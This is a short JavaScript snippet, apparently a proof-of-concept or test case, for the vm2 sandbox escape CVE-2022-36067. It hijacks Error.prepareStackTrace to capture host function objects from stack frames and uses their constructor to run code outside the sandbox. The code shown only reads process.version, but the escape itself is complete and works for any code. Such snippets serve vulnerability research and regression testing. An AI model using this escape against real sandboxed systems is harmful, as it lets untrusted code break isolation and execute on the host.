// Error.prepareStackTrace gets frames with getThis and getFunction.
// Source: vm2, CVE-2022-36067 (SandBreak).
let found = "nothing";
Error.prepareStackTrace = (error, frames) => { found = frames.map((frame) => frame.getFunction?.() ?? frame.getThis?.()).find((x) => x); return ""; };
new Error().stack;
return (typeof found === "function" ? found : (() => {})).constructor("return process.version")()
